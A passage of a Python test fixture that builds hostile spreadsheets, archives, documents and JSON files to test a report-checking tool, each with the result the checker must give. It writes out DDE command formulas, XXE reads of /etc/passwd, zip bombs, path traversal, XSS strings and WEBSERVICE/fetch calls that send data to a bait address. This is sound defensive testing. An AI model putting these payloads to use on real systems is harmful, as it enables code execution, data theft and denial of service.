"""The hostile files (恶意文件): each is made here, by a few lines that say what is wrong with it, with what a check
must say of it. ``python tests/hostile/corpus.py FOLDER`` writes them all.

Beside them stand ten good workbooks, whose results nothing may touch.
"""

import json
import os
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from functools import cache, partial
from io import BytesIO
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "helpers"))

import kit
import pdf_files
import word_files
from packages import (
    MACRO_TYPE,
    WORKBOOK_TYPE,
    as_ods,
    locked,
    marked_encrypted,
    ods,
    overlapping,
    packed,
    parts_of,
    related,
    replaced,
    wide_directory,
    with_false_size,
    with_table,
)

from toolkit.reports.content import report_of
from toolkit.reports.web_page import report_page
from toolkit.submission.json_csv import to_data
from toolkit.workbook.template import build_workbook

GOOD = 10
BAIT = "http://127.0.0.1:18427"
"""An address that is listened at while the commands run: nobody may ask there."""
PASSWORD = "一二三456"
SHEET = "xl/worksheets/sheet4.xml"
"""The sheet of the largest table."""


@dataclass(frozen=True)
class Hostile:
    """A file: what it is called, what is in it, and what is to come of it in a check: `status`, and the cause why it
    gave nothing, or rules that have to find something. With the status `left out`, it is listed with a reason that has
    these words. What is no plain file is made by `make`."""

    name: str
    content: bytes
    status: str
    ids: tuple[str, ...] = ()
    make: Callable[[Path], object] | None = None


Made = Callable[[], Iterator[Hostile]]


@cache
def good(number: int = 0) -> bytes:
    """A filled workbook without a fault, another agency's for each number."""
    return build_workbook(replace(kit.report("suqian-2024"), agency=f"第{number}局" if number else "宿迁市人民政府"))


@cache
def _parts() -> dict[str, bytes]:
    return parts_of(good())


@cache
def _wrong_parts() -> dict[str, bytes]:
    """A workbook that does not add up, and so goes back to its agency."""
    base = kit.report("suqian-2024")
    first = next(term.cell for case in base.form.cases for term in case.left.inputs)
    return parts_of(build_workbook(replace(base, values={**base.values, first: 987_654})))


def unreadable(name: str, content: bytes, cause: str) -> Hostile:
    return Hostile(name, content, "unreadable", (cause,))


def carrying(name: str, parts: dict[str, bytes], *rules: str) -> Hostile:
    return Hostile(name, packed(parts), "passed", rules)


def cut_and_broken() -> Iterator[Hostile]:
    """Files that are empty, cut off or damaged on the way."""
    whole = good()
    yield unreadable("空.xlsx", b"", "empty")
    yield unreadable("只有开头.xlsx", b"PK\x03\x04", "damaged")
    yield unreadable("一半.xlsx", whole[: len(whole) // 2], "damaged")
    yield unreadable("少了末尾.xlsx", whole[:-30], "damaged")
    middle = whole.find(SHEET.encode()) + 200
    yield unreadable("中间坏了.xlsx", whole[:middle] + bytes(40) + whole[middle + 40 :], "damaged")
    yield unreadable("全是零.xlsx", bytes(50_000), "other-kind")
    yield Hostile("后面有别的.xlsx", whole + b"<script>" * 100, "passed")
    yield unreadable(
        "没有工作簿部件.xlsx", packed({k: v for k, v in _parts().items() if k != "xl/workbook.xml"}), "not-a-form"
    )
    yield unreadable("坏了的XML.xlsx", packed(replaced(_parts(), "xl/workbook.xml", b"</workbook>", b"")), "damaged")


def of_another_kind() -> Iterator[Hostile]:
    """Files of another kind under the name of a workbook."""
    starts = {
        "程序.xlsx": b"MZ\x90\x00" + bytes(500),
        "脚本.xlsx": b"#!/bin/sh\nrm -rf /\n",
        "压缩包rar.xlsx": b"Rar!\x1a\x07\x01\x00" + bytes(500),
        "压缩包7z.xlsx": b"7z\xbc\xaf\x27\x1c" + bytes(500),
        "压缩包gz.xlsx": b"\x1f\x8b\x08\x00" + bytes(500),
        "富文本.xlsx": b"{\\rtf1\\ansi " + b"x" * 500 + b"}",
        "快捷方式.xlsx": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(500),
        "图片.xlsx": b"\x89PNG\r\n\x1a\n" + bytes(500),
        "数据库.xlsx": b"SQLite format 3\x00" + bytes(500),
        "别的XML.xlsx": b'<?xml version="1.0"?><a/>',
        "乱码.xlsx": bytes(range(256)) * 20,
        "压缩包.xlsx": packed({"甲.txt": b"x"}),
        "二进制工作簿.xlsx": packed({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\0"}),
        "演示文稿.xlsx": packed({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"}),
        "文档odt.xlsx": packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}),
    }
    yield from (unreadable(name, content, "other-kind") for name, content in starts.items())
    yield unreadable("逗号分隔.xlsx", "机关,数\n甲局,1\n".encode("gb18030"), "content")
    page = "<html><body><table><tr><td>甲</td><td>1</td></tr></table></body></html>"
    yield unreadable("网页.xls", page.encode(), "content")
    yield unreadable("复合文档.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "damaged")


def with_passwords() -> Iterator[Hostile]:
    """Files that have a password."""
    yield unreadable("有密码.xlsx", locked(good(), PASSWORD), "encrypted")
    yield Hostile("只读保存.xlsx", locked(good(), "VelvetSweatshop"), "passed", ("file-locked",))
    yield unreadable("有密码断了.xlsx", locked(good(), PASSWORD)[:9000], "encrypted")
    yield unreadable("部件有密码.xlsx", marked_encrypted(good()), "encrypted")
    yield Hostile("密码算得久.xlsx", _slow_to_unlock(), "unreadable")


def _slow_to_unlock() -> bytes:
    """A locked file whose key is to be made in a million steps."""
    content = locked(good(), PASSWORD)
    start = content.find(b"<?xml")
    said = content[start : content.find(b"</encryption>", start)]
    more = said.replace(b'spinCount="100000"', b'spinCount="999999"').replace(b' standalone="yes"', b"", 1)
    assert len(said) >= len(more) > said.count(b"x"), "there is room for it"
    return content.replace(said, more.replace(b"?>", b"?>" + b" " * (len(said) - len(more)), 1))


def bombs() -> Iterator[Hostile]:
    """Small files that would unpack to very much."""
    parts = _parts()
    yield unreadable("一个大部件.xlsx", packed({**parts, "xl/media/a.bin": 300 * 2**20}), "too-large")
    many = {f"xl/media/{number}.bin": 9 * 2**20 for number in range(30)}
    yield unreadable("许多部件.xlsx", packed({**parts, **many}), "too-large")
    yield unreadable("压得太紧.xlsx", packed({**parts, "xl/sharedStrings.xml": 60 * 2**20}), "too-large")
    small = packed({**parts, "xl/media/a.bin": 30 * 2**20})
    yield unreadable("说得小.xlsx", with_false_size(small, "xl/media/a.bin", 100), "damaged")
    yield unreadable("说得大.xlsx", with_false_size(small, "xl/media/a.bin", 2**31), "too-large")
    yield unreadable("重叠.xlsx", overlapping(900, 2**20), "too-large")
    yield unreadable("六千个部件.xlsx", packed({**parts, **{f"xl/media/{n}": b"" for n in range(6000)}}), "too-large")
    yield unreadable("目录太长.xlsx", wide_directory(400_000), "too-large")
    inner = packed({"a.xlsx": 150 * 2**20})
    yield unreadable("包中包.zip", packed({"b.zip": packed({"c.zip": inner})}), "too-large")
    yield unreadable("文件太大.xlsx", b"PK\x03\x04" + bytes(101 * 2**20), "too-large")


def entities() -> Iterator[Hostile]:
    """XML that grows without end or wants to read other files."""
    laughs = '<!ENTITY a0 "哈">' + "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12))
    growing = f'<?xml version="1.0"?><!DOCTYPE x [{laughs}]><sst><si><t>&a12;</t></si></sst>'
    reading = (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><sst><si><t>&f;</t></si></sst>'
    )
    outside = f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "{BAIT}/x.dtd"><sst/>'
    for name, text in (("十亿个哈", growing), ("读别的文件", reading), ("外部定义", outside)):
        yield unreadable(f"{name}.xlsx", packed({**_parts(), "xl/sharedStrings.xml": text.encode()}), "unsafe")
    yield unreadable("两字节.xlsx", packed({**_parts(), "xl/workbook.xml": growing.encode("utf-16")}), "unsafe")
    seven = reading.replace("?>", ' encoding="UTF-7"?>', 1).replace("<!", "+ADwAIQ-")
    yield unreadable("别的编码.xlsx", packed({**_parts(), "xl/workbook.xml": seven.encode()}), "damaged")
    for name, text in (("文档实体", growing), ("文档读文件", reading)):
        content = word_files.docx(word_files.p("字"), replaced={"word/document.xml": text.encode()})
        yield unreadable(f"{name}.docx", content, "unsafe")


def climbing() -> Iterator[Hostile]:
    """Parts whose names lead elsewhere, or stand twice."""
    for name, part in (
        ("往上爬", "../../../../tmp/爬出来.txt"),
        ("从根起", "/etc/爬出来.txt"),
        ("带盘符", "C:/Windows/爬出来.txt"),
        ("反斜杠", "..\\..\\爬出来.txt"),
        ("中间爬", "xl/../../爬出来.txt"),
    ):
        yield unreadable(f"{name}.xlsx", packed(_parts(), ((part, b"x"),)), "unsafe")
    yield unreadable("部件两次.xlsx", packed(_parts(), ((SHEET, _parts()[SHEET].replace(b"<v>", b"<v>9")),)), "unsafe")
    yield unreadable("大小写两次.xlsx", packed(_parts(), (("XL/Workbook.xml", b"<workbook/>"),)), "unsafe")
    for name, (old, new) in _given_twice(_parts()[SHEET]).items():
        yield unreadable(f"{name}.xlsx", packed(replaced(_parts(), SHEET, old, new)), "unsafe")
    book = replaced(_parts(), "xl/_rels/workbook.xml.rels", b"worksheets/sheet4.xml", b"../../../../../etc/passwd")
    yield unreadable("表指到外面.xlsx", packed(book), "damaged")
    book = replaced(_parts(), "xl/_rels/workbook.xml.rels", b"worksheets/sheet4.xml", f"{BAIT}/sheet.xml".encode())
    yield unreadable("表在网上.xlsx", packed(book), "damaged")


def _given_twice(sheet: bytes) -> dict[str, tuple[bytes, bytes]]:
    """What to replace in a sheet by what, so that a cell has two values."""
    row = sheet[sheet.index(b'<row r="7"') : sheet.index(b'<row r="8"')]
    cell = row[row.index(b'<c r="D7"') : row.index(b'<c r="E7"')]
    other = cell.replace(b"<v>", b"<v>9")
    return {
        "一格两次": (cell, cell + other),
        "一格两次换写法": (cell, cell + other.replace(b'<c r="D7"', b"<c x='' r='D7'")),
        "一格两值": (cell, cell.replace(b"</v>", b"</v><v>9</v>")),
        "一行两次": (row, row + row.replace(cell, other)),
        "次序颠倒": (row, row.replace(cell, b"") + row[:0] + b'<row r="6"/>'),
    }


def riding_along() -> Iterator[Hostile]:
    """Sound workbooks with what no form has."""
    parts = _parts()
    yield carrying("宏.xlsm", _with_macros(parts), "macro-carried")
    yield carrying("宏改名.xlsx", _with_macros(parts), "macro-carried")
    yield carrying("旧式宏.xlsx", {**parts, "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}, "macro-carried")
    yield carrying("自动运行.xlsx", _named(parts, "_xlnm.Auto_Open", "二!$A$1"), "macro-carried")
    dde = '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A1"/></ddeItems></ddeLink>'
    book, share = '<externalBook r:id="r1"/>', "file:///\\\\10.0.0.9\\share\\x.xlsx"
    yield carrying("外部链接.xlsx", _linked(parts, book, share), "link-carried")
    yield carrying("DDE链接.xlsx", _linked(parts, dde), "dde-carried")
    run, ask = "cmd|'/C calc'!A0", f'WEBSERVICE("{BAIT}/?"&amp;A1)'
    yield carrying("DDE公式.xlsx", _with_formula(parts, run), "dde-carried", "outside-form")
    yield carrying("取网页.xlsx", _with_formula(parts, ask), "link-carried", "outside-form")
    yield carrying("引用外部.xlsx", _with_formula(parts, "[1]表!A1"), "link-carried", "outside-form")
    yield carrying(
        "嵌入对象.xlsx", {**parts, "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" * 9}, "object-carried"
    )
    yield carrying("控件.xlsx", {**parts, "xl/activeX/activeX1.bin": b"x" * 99}, "object-carried")
    yield carrying("查询.xlsx", {**parts, "xl/connections.xml": b"<connections/>"}, "query-carried")
    yield carrying("外部名称.xlsx", _named(parts, "甲", "[1]表!$A$1"), "name-outside")
    yield carrying("网络名称.xlsx", _named(parts, "乙", "'\\\\10.0.0.9\\share\\[x.xlsx]表'!$A$1"), "name-outside")
    outside = related(parts, SHEET, "r9", "image", f"{BAIT}/x.png", outside=True)
    yield carrying("网上图片.xlsx", outside, "link-carried")
    yield carrying("隐藏表.xlsx", _with_sheet("hidden"), "sheet-hidden")
    yield carrying("深藏表.xlsx", _with_sheet("veryHidden"), "sheet-hidden")
    yield carrying("隐藏行.xlsx", replaced(parts, SHEET, b'<row r="9" ', b'<row r="9" hidden="1" '), "line-hidden")
    inputs = b'<xf numFmtId="%d" fontId="3" fillId="0"'
    shown = replaced(parts, "xl/styles.xml", inputs % 1, inputs % 9)
    yield Hostile("显示别的数.xlsx", packed(shown), "failed", ("shown-differs",))
    yield from _hidden_from_a_search()
    yield from _inside_of_parts()
    wrong = _with_macros(_linked(_with_formula(_wrong_parts(), run), dde))
    yield Hostile("有误带宏.xlsm", packed(wrong), "failed", ("macro-carried", "dde-carried"))
    wrong = _named(_linked(_with_formula(_wrong_parts(), ask), book, share), "甲", "[1]表!$A$1")
    yield Hostile("有误带链接.xlsx", packed(wrong), "failed", ("link-carried", "name-outside"))


def _hidden_from_a_search() -> Iterator[Hostile]:
    """The same, written so that only a parser sees it."""
    parts, run = _parts(), "cmd|'/C calc'!A0"
    for name, cell in {
        "属性在前": f'<c s="0" r="L60"><f>{run}</f><v>0</v></c>',
        "单引号": f"<c r='L60'><f>{run}</f><v>0</v></c>",
        "没有地址": f"<c><f>{run}</f><v>0</v></c>",
        "夹注释": f'<c r="L60"><f>cmd<!-- -->{run[3:]}</f><v>0</v></c>',
        "夹部件": f'<c r="L60"><f>cmd<x/>{run[3:]}</f><v>0</v></c>',
        "字面": f'<c r="L60"><f><![CDATA[{run}]]></f><v>0</v></c>',
        "值在前": f'<c r="L60"><v>0</v><f>{run}</f></c>',
        "写成编号": f'<c r="L60"><f>{run.replace("|", "&#x7c;")}</f><v>0</v></c>',
        "小写地址": f'<c r="l60"><f>{run}</f><v>0</v></c>',
        "空格": f'<c  r = "L60" ><f >{run}</f><v>0</v></c>',
    }.items():
        row = f'<row r="60">{cell}</row></sheetData>'.encode()
        yield carrying(f"DDE{name}.xlsx", replaced(parts, SHEET, b"</sheetData>", row), "dde-carried")
    space = b'xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    row = f'<x:row {space.decode()} r="60"><x:c r="L60"><x:f>{run}</x:f><x:v>0</x:v></x:c></x:row></sheetData>'
    yield Hostile(
        "DDE带前缀.xlsx", packed(replaced(parts, SHEET, b"</sheetData>", row.encode())), "passed", ("dde-carried",)
    )
    for name, rule in {
        "夹部件的颜色": f"<formula>1<x/>+{run}</formula>",
        "像空的颜色": f'<formula a="/>">1<x/>+{run}</formula>',
    }.items():
        rules = f'<conditionalFormatting sqref="L61"><cfRule type="expression" priority="99">{rule}</cfRule>'
        coloured = replaced(
            parts, SHEET, b"<conditionalFormatting", f"{rules}</conditionalFormatting><conditionalFormatting".encode()
        )
        yield carrying(f"DDE{name}.xlsx", coloured, "dde-carried")
    moved = related({**parts, "xl/theme/a.dat": b"\xcc\x61"}, "xl/workbook.xml", "m1", "vbaProject", "theme/a.dat")
    yield carrying("宏搬了家.xlsx", moved, "macro-carried")
    link = related(parts, "xl/workbook.xml", "l9", "externalLinkPath", f"{BAIT}/x.xlsx", outside=True)
    rels = "xl/_rels/workbook.xml.rels"
    yield carrying("链接写成编号.xlsx", replaced(link, rels, b'"External"', b'"Ext&#101;rnal"'), "link-carried")
    name = "<definedName\nname='丙'>[1]表!$A$1</definedName>".encode()
    if b"<definedNames>" in parts["xl/workbook.xml"]:
        named = replaced(parts, "xl/workbook.xml", b"<definedNames>", b"<definedNames>" + name)
    else:
        named = replaced(parts, "xl/workbook.xml", b"</sheets>", b"</sheets><definedNames>" + name + b"</definedNames>")
    yield carrying("名称换行.xlsx", named, "name-outside")


def _inside_of_parts() -> Iterator[Hostile]:
    """What stands in tables, drawings and other parts that no form has."""
    parts, run = _parts(), "cmd|'/C calc'!A0"
    yield carrying(
        "表格公式.xlsx", with_table(parts, SHEET, run, f'WEBSERVICE("{BAIT}/")'), "dde-carried", "link-carried"
    )
    wrong = with_table(_wrong_parts(), SHEET, f"1<x/>+{run}", f'WEBSERVICE("{BAIT}/")')
    yield Hostile("有误带表格.xlsx", packed(wrong), "failed", ("dde-carried", "link-carried"))
    yield carrying("按钮.xlsx", _drawn(parts, f"<x:FmlaMacro>[0]!甲</x:FmlaMacro><x:FmlaPict>{run}</x:FmlaPict><br>"),
                   "macro-carried", "dde-carried")  # fmt: skip
    mashup = b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
    for name, content in (("查询编辑器", mashup), ("查询两字节", mashup.decode().encode("utf-16"))):
        item = related({**parts, "customXml/item1.xml": content}, "xl/workbook.xml", "q1", "customXml", "x")
        yield carrying(f"{name}.xlsx", item, "query-carried")
    kind = "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"
    ribbon = f'<Relationship Id="u1" Type="{kind}" Target="xl/u.xml"/></Relationships>'.encode()
    ribbon_parts = {**parts, "xl/u.xml": b'<customUI onLoad="x"/>'}
    yield carrying("功能区.xlsx", replaced(ribbon_parts, "_rels/.rels", b"</Relationships>", ribbon), "macro-carried")
    published = rb'<webPublishItems><webPublishItem destinationFile="\\10.0.0.9\x.htm"/></webPublishItems></worksheet>'
    yield carrying("网上发布.xlsx", replaced(parts, SHEET, b"</worksheet>", published), "link-carried")
    clicked = related(parts, "xl/workbook.xml", "h1", "hyperlink", f"{BAIT}/a", outside=True)
    yield carrying("工作簿的链接.xlsx", clicked, "link-carried")
    clicked = related(parts, SHEET, "h1", "hyperlink", "file:///C:/Windows/System32/calc%2Eexe", outside=True)
    yield carrying("点开程序.xlsx", clicked, "link-carried")
    renamed = replaced(_with_sheet("veryHidden"), "xl/workbook.xml", "暗".encode(), "审核意见".encode())
    yield carrying("深藏审核意见.xlsx", renamed, "sheet-hidden")
    own = replaced(parts, "xl/workbook.xml", 'name="自查"'.encode(), 'name="自查" state="hidden"'.encode())
    yield carrying("藏起自查.xlsx", own, "sheet-hidden")


def _drawn(parts: dict[str, bytes], inside: str) -> dict[str, bytes]:
    """A workbook with a shape that is drawn in the old way, as buttons are; such drawings need not be well-formed."""
    spaces = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"'
    shape = f'<xml {spaces}><v:shape><x:ClientData ObjectType="Button">{inside}</x:ClientData></v:shape></xml>'
    made = {**parts, "xl/drawings/vmlDrawing1.vml": shape.encode()}
    return related(made, SHEET, "v1", "vmlDrawing", "../drawings/vmlDrawing1.vml")


def two_faced() -> Iterator[Hostile]:
    """Files that office programs would open otherwise than a reader."""
    parts = _parts()
    decoy = replaced(
        {**parts, "xl/real.xml": parts["xl/workbook.xml"]}, "_rels/.rels", b"xl/workbook.xml", b"xl/real.xml"
    )
    yield unreadable("两个工作簿.xlsx", packed(decoy), "damaged")
    sheet = b'<sheet name="_GKNB" sheetId="97" r:id="rId1"/></sheets>'
    yield unreadable("大小写同名表.xlsx", packed(replaced(parts, "xl/workbook.xml", b"</sheets>", sheet)), "damaged")


def archives() -> Iterator[Hostile]:
    """Archives whose directory is odd."""
    yield Hostile("没有名字.zip", packed({"甲.xlsx": good()}, (("", b""),)), "passed")
    yield unreadable("往外爬.zip", packed({"../爬出来.xlsx": good()}), "unsafe")
    yield unreadable("同名两份.zip", packed({"甲.xlsx": good()}, (("甲.xlsx", b"x"),)), "unsafe")
    yield unreadable("包里很多.zip", packed({"里.zip": wide_directory(190_000)}), "too-large")
    yield Hostile("名字是命令.zip", packed({f"\x1b]0;x\x07\x1b[2J{n}.xlsx": b"x" for n in range(25)}), "unreadable")


def oddly_named_members() -> Iterator[Hostile]:
    """Archives whose members have names that no plain archive has, or that take long to list."""
    yield Hostile("反斜杠.zip", packed({}, ((".\\乙.xlsx", good()), ("..\\爬出来.xlsx", good()))), "any")
    yield Hostile("名字换行.zip", packed({"甲\n【通过】假.xlsx": b"x"}), "unreadable", ("content",))
    yield Hostile("名字很长.zip", packed({"长" * 20_000 + ".xlsx": b"x"}), "unreadable", ("content",))
    yield unreadable("一处两份.zip", packed({"目录/甲.xlsx": good()}, (("目录\\甲.xlsx", b"x"),)), "unsafe")
    yield Hostile("六万份.zip", packed({"甲.xlsx": good(), **{f"目录/{n}.doc": b"" for n in range(60_000)}}), "any")


def in_a_folder() -> Iterator[Hostile]:
    """What lies in a folder beside returns and is no plain file, or none of them."""
    if hasattr(os, "mkfifo"):
        yield Hostile("管道.zip", b"", "unreadable", ("other-kind",), os.mkfifo)
        yield Hostile("管道.xlsx", b"", "unreadable", ("other-kind",), os.mkfifo)
        yield Hostile("管道.dat", b"", "left out", ("不是普通文件",), os.mkfifo)
        for name, target, words in (
            ("断了的链接", "没有", "指向的位置没有文件"),
            ("指自己的链接", "指自己的链接", "指向的位置没有文件"),
            ("绕圈的链接", "..", "绕回"),
            ("到根的链接", "/", "绕回"),
        ):
            yield Hostile(name, b"", "left out", (words,), partial(_link, target))
    if Path("/dev/zero").exists():
        yield Hostile("没有尽头.xlsx", b"", "unreadable", ("other-kind",), partial(_link, "/dev/zero"))
        yield Hostile("没有尽头.zip", b"", "unreadable", ("other-kind",), partial(_link, "/dev/urandom"))
    yield Hostile("~$锁.xlsx", b"x", "left out", ("锁文件",))
    yield Hostile("._附带.xlsx", b"\0\5\x16\7", "left out", ("macOS",))
    yield Hostile(".隐藏.xlsx", good(), "passed")
    yield Hostile("汇总表.xlsx", good(), "passed")
    yield Hostile("别名.json", b'{"summary": {"files": 1, "passed": 1, "failed": 0, "unreadable": 0}, "files": []}',
                  "left out", ("gknb check 写出的",))  # fmt: skip
    if sys.platform == "linux":
        yield Hostile("换行\n【通过】\x1b[2J\u202e.xlsx", b"x", "any")


def _link(target: str, path: Path) -> None:
    path.symlink_to(target)


def _with_macros(parts: dict[str, bytes]) -> dict[str, bytes]:
    types = replaced(parts, "[Content_Types].xml", WORKBOOK_TYPE, MACRO_TYPE)
    macros = {**types, "xl/vbaProject.bin": b"\xcc\x61" * 500}
    return related(macros, "xl/workbook.xml", "m1", "vbaProject", "vbaProject.bin")


def _named(parts: dict[str, bytes], name: str, text: str, times: int = 1) -> dict[str, bytes]:
    """A workbook with more defined names; from the second on, a number stands behind them."""
    numbers = ("", *map(str, range(2, times + 1)))
    new = "".join(f'<definedName name="{name}{number}">{text}</definedName>' for number in numbers).encode()
    if b"<definedNames>" in parts["xl/workbook.xml"]:
        return replaced(parts, "xl/workbook.xml", b"<definedNames>", b"<definedNames>" + new)
    return replaced(parts, "xl/workbook.xml", b"</sheets>", b"</sheets><definedNames>" + new + b"</definedNames>")


def _linked(parts: dict[str, bytes], inside: str, target: str = "") -> dict[str, bytes]:
    """A workbook with a link to another file or program."""
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    space += ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    part = "xl/externalLinks/externalLink1.xml"
    parts = {**parts, part: f"<externalLink {space}>{inside}</externalLink>".encode()}
    if target:
        parts = related(parts, part, "r1", "externalLinkPath", target, outside=True)
    return related(parts, "xl/workbook.xml", "l1", "externalLink", "externalLinks/externalLink1.xml")


def _with_formula(parts: dict[str, bytes], formula: str) -> dict[str, bytes]:
    """A workbook with a formula in a cell beside the table."""
    cell = f'<row r="60"><c r="L60"><f>{formula}</f><v>0</v></c></row></sheetData>'
    return replaced(parts, SHEET, b"</sheetData>", cell.encode())


def _with_sheet(state: str) -> dict[str, bytes]:
    """A workbook with one more sheet, which is not shown."""
    sheet = f'<sheet name="暗" sheetId="99" state="{state}" r:id="x99"/></sheets>'.encode()
    parts = replaced(_parts(), "xl/workbook.xml", b"</sheets>", sheet)
    space = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>'
    parts = {**parts, "xl/worksheets/sheet99.xml": space}
    return related(parts, "xl/workbook.xml", "x99", "worksheet", "worksheets/sheet99.xml")


def no_form() -> Iterator[Hostile]:
    """Workbooks that are none of ours, or say of themselves what cannot be."""
    identity = _identity_part()
    for name, old, new in (
        ("没有标识", b"_gknb", b"_gknx"),
        ("标识两样", b"</sheets>", b'<sheet name="_gknb" sheetId="98" r:id="rId1"/></sheets>'),
    ):
        cause = "not-a-form" if name == "没有标识" else "damaged"
        yield unreadable(f"{name}.xlsx", packed(replaced(_parts(), "xl/workbook.xml", old, new)), cause)
    parts = _parts()
    blank = parts[identity][: parts[identity].find(b"<sheetData>")] + b"<sheetData/></worksheet>"
    yield unreadable("标识空白.xlsx", packed({**parts, identity: blank}), "not-a-form")


def _identity_part() -> str:
    return max(name for name in _parts() if name.startswith("xl/worksheets/sheet"))


def strange_sheets() -> Iterator[Hostile]:
    """Sheets that no reader could hold, or that take very long."""
    far = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    yield unreadable("远在天边.xlsx", packed(replaced(_parts(), SHEET, b"</sheetData>", far)), "too-large")
    deep = b"<a>" * 200_000 + b"</a>" * 200_000
    yield unreadable("层层嵌套.xlsx", packed({**_parts(), "xl/workbook.xml": deep}), "damaged")
    rows = b"".join(b'<row r="%d"><c r="A%d"><f>A1</f></c></row>' % (n, n) for n in range(50, 20_000))
    yield Hostile("两万公式.xlsx", packed(replaced(_parts(), SHEET, b"</sheetData>", rows + b"</sheetData>")), "passed")
    yield Hostile("六万名称.xlsx", packed(_named(_parts(), "n", "A1", 60_000)), "passed")
    merged = b"".join(b'<mergeCell ref="L%d:M%d"/>' % (n, n) for n in range(60, 60_000))
    yield Hostile(
        "六万合并.xlsx", packed(replaced(_parts(), SHEET, b"</mergeCells>", merged + b"</mergeCells>")), "passed"
    )


def strange_values() -> Iterator[Hostile]:
    """Sound workbooks filled in with what would act elsewhere: as a formula, as a page, as the name of a file."""
    base = kit.report("suqian-2024")
    for number, agency in enumerate(
        (
            "=cmd|'/c calc'!A1",
            "+1+1",
            "@SUM(1)",
            "../../../../tmp/爬出来",
            "..\\..\\爬出来",
            "CON",
            "a:b",
            "<script>alert(1)</script>",
            '"><img src=x onerror=alert(1)>',
            "甲局\u202e\u2066反",
            "局" * 200,
            "甲局. ",
        ),
        1,
    ):
        texts = {section: (agency, *paragraphs) for section, paragraphs in base.texts.items()}
        made = build_workbook(replace(base, agency=agency, texts=texts))
        yield Hostile(f"名称{number:02}.xlsx", made, "any")


def data_files() -> Iterator[Hostile]:
    """Data files (JSON) that are wrong in every way."""
    sound = to_data(kit.report("suqian-2024"))
    yield unreadable("嵌套.json", b"[" * 200_000, "content")
    yield unreadable("不是数.json", json.dumps({**sound, "year": float("nan")}).encode(), "content")
    cell = next(iter(sound["values"]))
    huge = json.dumps({**sound, "values": {cell: "PLACE"}}).replace('"PLACE"', "9" * 6000)
    yield unreadable("六千位数.json", huge.encode(), "content")
    yield Hostile("别的键.json", json.dumps({**sound, "__class__": "os.system"}).encode(), "passed")
    yield unreadable("不是对象.json", b"[1, 2, 3]", "content")
    yield unreadable("半个字符.json", json.dumps({**sound, "form": "\ud800"}).encode(), "content")
    yield unreadable("格号半个字符.json", json.dumps({**sound, "values": {"\ud800": [["\ud800"]]}}).encode(), "content")
    yield unreadable("指数太长.json", huge.replace("9" * 6000, "1e" + "9" * 20).encode(), "content")
    yield unreadable("断了.json", json.dumps(sound).encode()[:500], "content")


def published() -> Iterator[Hostile]:
    """Published reports that are built to hurt."""
    page = report_page(report_of(kit.report("suqian-2024")))
    scripted = page.replace(
        "</body>", f'<script>fetch("{BAIT}")</script><iframe src="file:///etc/passwd"></iframe></body>'
    )
    yield Hostile("带脚本.html", scripted.encode(), "any")
    yield unreadable("深网页.html", b"<html><body>" + b"<div>" * 300_000 + b"x", "content")
    yield unreadable("大表格.html", b"<html><table>" + b"<tr>" + b"<td>1" * 400_000, "over-time")
    yield unreadable(
        "跨一亿行.html", b'<html><table><tr><td rowspan="100000000" colspan="100000000">1</table>' * 50, "content"
    )
    yield unreadable("一长行.txt", "一、总体情况".encode() * 300_000, "content")
    yield unreadable("全是标题.txt", "一、\n二、\n".encode() * 10_000, "content")
    deep = word_files.tbl(word_files.tr(word_files.tc(word_files.p("x"))))
    for _ in range(60):
        deep = word_files.tbl(word_files.tr(word_files.tc(deep, word_files.p())))
    yield unreadable("表中表.docx", word_files.docx(deep), "content")
    yield unreadable(
        "文档炸弹.docx", word_files.docx(word_files.p("字"), media={"big": bytes(201 * 2**20)}), "too-large"
    )
    yield unreadable("坏的.pdf", b"%PDF-1.7\n" + b"1 0 obj<<>>" * 10_000, "content")
    ring = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[2 0 R]/Count 9>>endobj\n"
    yield unreadable("转圈.pdf", ring + b"trailer<</Root 1 0 R>>\n%%EOF", "content")
    stream = pdf_files.stream(b"q " * 30_000_000)
    yield unreadable("大流.pdf", b"%PDF-1.4\n1 0 obj" + stream + b"endobj", "content")


def open_documents() -> Iterator[Hostile]:
    """Tables in the OpenDocument format."""
    yield unreadable("一格当百万.ods", _ods('table:number-rows-repeated="1048576"', 16_384), "too-large")
    yield unreadable("别的表.ods", _ods("", 1), "not-a-form")
    inner = '<table:table table:name="外">{}<table:table-row><table:table-cell/></table:table-row></table:table>'
    cell = inner.replace("{}", "").replace("cell/", "cell table:formula={}/")
    drawn = inner.format("<table:shapes>{}</table:shapes>")
    asked = '<office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/>'
    button = '<script:event-listener xlink:href="vnd.sun.star.script:a"/>'
    bases = '<table:database-range><table:database-source-sql table:database-name="a"/></table:database-range>'
    for name, more, rule in (
        ("DDE链接", f"<table:dde-links><table:dde-link>{asked}</table:dde-link></table:dde-links>", "dde-carried"),
        ("单引号DDE", cell.format("""'of:=DDE("cmd";"/c calc";"A1")'"""), "dde-carried"),
        ("小写DDE", cell.format('"of:=dde (&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A1&quot;)"'), "dde-carried"),
